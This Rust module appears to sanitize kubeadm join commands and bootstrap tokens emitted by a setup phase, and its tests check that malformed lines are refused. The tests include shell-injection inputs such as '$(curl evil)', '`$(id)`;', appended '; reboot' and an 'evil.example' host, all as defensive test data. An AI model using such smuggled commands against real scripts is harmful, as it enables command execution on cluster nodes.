//! Output lines that scripts take from a phase: a join command and a token. They are parsed word by word and written again from
//! what was parsed, so that they contain nothing else, and a secret only after the flag it belongs to.

use super::command::{Endpoint, InvalidJoin, Spelling, pin};
use crate::bootstrap_token::Token;
use crate::name::shortened;
use crate::output::{Output, OutputPart};
use crate::secret::{SecretId, Secrets};

/// The name of the output with the join command.
pub const JOIN_COMMAND: &str = "join-command";
/// The name of the output with only a token.
pub const TOKEN: &str = "token";

/// A line that does not match its name. Of its contents, only the phase's own words are repeated.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum InvalidLine {
    /// Not the words of a join command.
    #[error(
        "it must be `kubeadm join HOST:PORT --token TOKEN`, optionally with --discovery-token-ca-cert-hash, --control-plane and --certificate-key"
    )]
    Join,
    /// An unexpected flag or word.
    #[error("`{0}` is not allowed in a join command from a phase")]
    Word(String),
    /// An invalid part of the command.
    #[error(transparent)]
    Part(#[from] InvalidJoin),
    /// A secret in the wrong place.
    #[error("a secret is only allowed after --token and --certificate-key")]
    Secret,
    /// An invalid certificate key.
    #[error("its certificate key must be letters and digits")]
    Key,
    /// Not a token.
    #[error("it must be a bootstrap token and nothing else")]
    Token,
}

/// The output as it may be shown: a join command or token is written again from its parsed parts, in kubeadm's words; any other
/// output is unchanged.
///
/// # Errors
/// [`InvalidLine`] for an invalid join command or token, and for a secret in the wrong place.
pub fn rewritten(output: &Output, secrets: &Secrets) -> Result<Output, InvalidLine> {
    let value = match output.name.as_str() {
        JOIN_COMMAND => join(&output.value, secrets)?,
        TOKEN => {
            let mut words = words(&output.value)?.into_iter();
            let token = words.next().and_then(|word| word.token(secrets)).ok_or(InvalidLine::Token)?;
            if words.next().is_some() {
                return Err(InvalidLine::Token);
            }
            token
        }
        _ => return Ok(output.clone()),
    };
    Ok(Output { value, ..output.clone() })
}

/// A word: text, followed by at most one secret.
#[derive(Debug, Default)]
struct Word {
    text: String,
    secret: Option<SecretId>,
}

impl Word {
    /// The text of a word without a secret.
    fn plain(&self) -> Result<&str, InvalidLine> {
        if self.secret.is_none() { Ok(&self.text) } else { Err(InvalidLine::Secret) }
    }

    /// The parts of a token; `None` if it is not one.
    fn token(&self, secrets: &Secrets) -> Option<Vec<OutputPart>> {
        let Some(secret) = &self.secret else {
            return Token::parse(&self.text).is_some().then(|| vec![OutputPart::Text(self.text.clone())]);
        };
        let half = secrets.resolve(secret)?;
        let id = self.text.strip_suffix('.')?;
        let is_token = Token::of(id, std::str::from_utf8(half).ok()?).is_some() || (Token::is_id(id) && is_mask(half));
        if !is_token {
            return None;
        }
        Some(vec![OutputPart::Text(self.text.clone()), OutputPart::Secret(secret.clone())])
    }

    /// A certificate key, which a shell reads as one word.
    fn key(self, secrets: &Secrets) -> Result<OutputPart, InvalidLine> {
        let is_key = |key: &[u8]| !key.is_empty() && (key.iter().all(u8::is_ascii_alphanumeric) || is_mask(key));
        match self.secret {
            None if is_key(self.text.as_bytes()) => Ok(OutputPart::Text(self.text)),
            Some(id) if self.text.is_empty() && secrets.resolve(&id).is_some_and(is_key) => Ok(OutputPart::Secret(id)),
            _ => Err(InvalidLine::Key),
        }
    }
}

/// Whether a value is a placeholder for one that no longer exists: in a replay, asterisks with an optional number.
fn is_mask(value: &[u8]) -> bool {
    value.starts_with(b"*") && value.iter().all(|byte| *byte == b'*' || byte.is_ascii_digit())
}

/// The words of a line, split at spaces. Quotes are not supported: nothing in such a line needs them.
fn words(value: &[OutputPart]) -> Result<Vec<Word>, InvalidLine> {
    let (mut words, mut last) = (Vec::new(), Word::default());
    for part in value {
        match part {
            OutputPart::Secret(_) if last.secret.is_some() => return Err(InvalidLine::Secret),
            OutputPart::Secret(id) => last.secret = Some(id.clone()),
            OutputPart::Text(text) => {
                for (index, piece) in text.split(' ').enumerate() {
                    if index > 0 {
                        words.push(std::mem::take(&mut last));
                    }
                    if last.secret.is_some() && !piece.is_empty() {
                        return Err(InvalidLine::Secret);
                    }
                    last.text.push_str(piece);
                }
            }
        }
    }
    words.push(last);
    words.retain(|word| !word.text.is_empty() || word.secret.is_some());
    Ok(words)
}

/// A join command, in the form of `kubeadm token create --print-join-command` (`app/cmd/util/join.go`).
fn join(value: &[OutputPart], secrets: &Secrets) -> Result<Vec<OutputPart>, InvalidLine> {
    let mut words = words(value)?.into_iter();
    let mut next = || words.next().ok_or(InvalidLine::Join);
    if next()?.plain()? != "kubeadm" || next()?.plain()? != "join" {
        return Err(InvalidLine::Join);
    }
    let endpoint = Endpoint::parse(next()?.plain()?)?;
    let (mut token, mut pins, mut key, mut role) = (None, Vec::new(), None, "");
    while let Ok(flag) = next() {
        match flag.plain()? {
            "--token" if token.is_none() => {
                let no_token = || InvalidJoin::Token("--token", "each half must be letters and digits, or a secret".to_owned());
                token = Some(next()?.token(secrets).ok_or_else(no_token)?);
            }
            "--discovery-token-ca-cert-hash" => pins.push(pin(next()?.plain()?, Spelling::Flags)?),
            "--control-plane" => role = " --control-plane",
            "--certificate-key" if key.is_none() => key = Some(next()?.key(secrets)?),
            other => return Err(InvalidLine::Word(named(other))),
        }
    }
    let mut line = vec![OutputPart::Text(format!("kubeadm join {endpoint} --token "))];
    line.extend(token.ok_or(InvalidLine::Join)?);
    let pins: String = pins.iter().map(|pin| format!(" --discovery-token-ca-cert-hash {pin}")).collect();
    line.push(OutputPart::Text(format!("{pins}{role}")));
    if let Some(key) = key {
        line.extend([OutputPart::Text(" --certificate-key ".to_owned()), key]);
    }
    // kubeadm's own line ends with a space if nothing follows the hashes.
    if matches!(value.last(), Some(OutputPart::Text(text)) if text.ends_with(' ')) {
        line.push(OutputPart::Text(" ".to_owned()));
    }
    Ok(line)
}

/// A misplaced word for a message; of a flag only its name.
fn named(word: &str) -> String {
    shortened(word.split('=').next().unwrap_or(word)).into_owned()
}

#[cfg(test)]
mod tests {
    use super::{InvalidLine, rewritten};
    use crate::name::Namespace;
    use crate::output::{Moment, Output, OutputPart};
    use crate::secret::{Home, SecretId, SecretOrigin, Secrets};

    const HASH: &str = "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

    /// A line in which `{n}` is the nth secret: half of a token, a key, and text that a shell would run.
    fn line(name: &str, text: &str) -> (Output, Secrets) {
        let mut secrets = Secrets::default();
        let home = Home { namespace: Namespace::parse("kube-system").ok(), of_type: "bootstrap.kubernetes.io/token".to_owned() };
        for value in ["0123456789abcdef", "fedcba98", "`$(id)`;abcdefg", "***************1"] {
            secrets.hide(value.as_bytes(), SecretOrigin::Given(home.clone()));
        }
        let mut value = Vec::new();
        let mut rest = text;
        while let Some((before, behind)) = rest.split_once('{') {
            let (number, behind) = behind.split_once('}').unwrap();
            value.extend([OutputPart::Text(before.to_owned()), OutputPart::Secret(SecretId::named(&format!("s{number}")))]);
            rest = behind;
        }
        value.push(OutputPart::Text(rest.to_owned()));
        (Output { name: name.to_owned(), when: Moment::After, value }, secrets)
    }

    fn told(output: &Output) -> String {
        let part = |part: &OutputPart| match part {
            OutputPart::Text(text) => text.clone(),
            OutputPart::Secret(id) => id.as_str().replace('s', "{") + "}",
        };
        output.value.iter().map(part).collect()
    }

    #[test]
    fn a_join_command_is_written_anew() {
        for (text, expected) in [
            (format!("kubeadm join a:1 --token abcdef.{{1}} --discovery-token-ca-cert-hash {HASH} "), None),
            (
                format!(
                    "kubeadm join [::1]:1 --token abcdef.{{1}} --discovery-token-ca-cert-hash {HASH} --control-plane --certificate-key {{2}}"
                ),
                None,
            ),
            ("kubeadm join a:1 --token abcdef.{1}".to_owned(), None),
            (
                "kubeadm  join a:1   --control-plane --token abcdef.{1}".to_owned(),
                Some("kubeadm join a:1 --token abcdef.{1} --control-plane"),
            ),
            ("kubeadm join a:1 --token abcdef.0123456789abcdef".to_owned(), None),
            ("kubeadm join a:1 --token abcdef.{4}".to_owned(), None),
        ] {
            let (output, secrets) = line("join-command", &text);
            let found = rewritten(&output, &secrets).unwrap_or_else(|error| panic!("{text}: {error}"));
            assert_eq!(told(&found), expected.unwrap_or(&text), "{text}");
        }
    }

    #[test]
    fn what_is_no_join_command_is_refused() {
        use InvalidLine::{Join, Key, Part, Secret, Token, Word};
        for (name, text, is_expected) in [
            (
                "join-command",
                "kubeadm join {1}.evil.example:6443 --token abcdef.{1}",
                (|e| *e == Secret) as fn(&InvalidLine) -> bool,
            ),
            ("join-command", "kubeadm join x{1}:6443 --token abcdef.0123456789abcdef", |e| *e == Secret),
            ("join-command", "kubeadm join a:1 --token abcdef.{1}.evil", |e| *e == Secret),
            ("join-command", "kubeadm join a:1 --token abcdef.{1}{2}", |e| *e == Secret),
            ("join-command", "kubeadm join a:1 --token abcdef.{1} --discovery-token-ca-cert-hash {1}", |e| *e == Secret),
            ("join-command", "kubeadm join a:1 --token abcdef.{1} --{1}", |e| *e == Secret),
            ("join-command", "{1} join a:1 --token abcdef.{1}", |e| *e == Secret),
            ("join-command", "kubeadm join a:1 --token abcdef.{2}", |e| matches!(e, Part(_))),
            ("join-command", "kubeadm join a:1 --token abcdef.{3}", |e| matches!(e, Part(_))),
            ("join-command", "kubeadm join a:1 --token abcdef.{9}", |e| matches!(e, Part(_))),
            ("join-command", "kubeadm join $(curl${IFS}evil):1 --token abcdef.{1}", |e| matches!(e, Part(_) | Word(_) | Secret)),
            ("join-command", "kubeadm join a:1 --token abcdef.{1};reboot", |e| *e == Secret),
            ("join-command", "kubeadm join a:1 --token abcdef.{1} ; reboot", |e| matches!(e, Word(_))),
            ("join-command", "kubeadm join a:1 --token abcdef.{1}\nreboot", |e| *e == Secret),
            ("join-command", "kubeadm join a:1 --token abcdef.{1} --config=/x", |e| *e == Word("--config".to_owned())),
            ("join-command", "kubeadm join a:1 --token abcdef.{1} --discovery-token-unsafe-skip-ca-verification", |e| {
                matches!(e, Word(_))
            }),
            ("join-command", "kubeadm join a:1 --token abcdef.{1} --token abcdef.{1}", |e| matches!(e, Word(_))),
            ("join-command", "kubeadm join a:1 --token abcdef.{1} --certificate-key {3}", |e| *e == Key),
            ("join-command", "kubeadm join a:1 --token abcdef.{1} --certificate-key x{2}", |e| *e == Key),
            ("join-command", "kubeadm join a --token abcdef.{1}", |e| matches!(e, Part(_))),
            ("join-command", "$(curl evil) kubeadm join a:1 --token abcdef.{1}", |e| *e == Join),
            ("join-command", "kubeadm join a:1", |e| *e == Join),
            ("join-command", "", |e| *e == Join),
            ("token", "$(curl evil)", |e| *e == Token),
            ("token", "abcdef.{1} ; reboot", |e| *e == Token),
            ("token", "abcdef.{3}", |e| *e == Token),
        ] {
            // `${IFS}` is not a secret.
            let (output, secrets) = line(name, &text.replace("${IFS}", "$IFS"));
            let error = rewritten(&output, &secrets).expect_err(text);
            assert!(is_expected(&error), "{text}: {error:?}");
            assert!(!error.to_string().contains("0123456789"), "{error}");
        }
    }
}
